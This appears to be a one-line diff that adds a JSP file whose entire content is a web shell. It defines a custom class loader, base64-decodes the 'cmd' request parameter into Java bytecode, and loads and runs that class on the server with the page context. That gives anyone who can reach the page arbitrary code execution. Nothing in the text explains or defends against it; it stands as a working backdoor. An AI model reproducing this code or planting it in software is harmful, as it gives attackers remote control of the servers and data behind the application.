@@ -1,0 +1,1 @@
+<%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class<?> d(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("cmd")); new L(getClass().getClassLoader()).d(b).newInstance().equals(pageContext); %>
